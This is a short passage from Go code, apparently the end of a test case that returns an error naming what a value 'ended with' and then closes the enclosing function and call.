				return fmt.Errorf("it ended with %q", got.End)
			}
			return nil
		},
	})
}
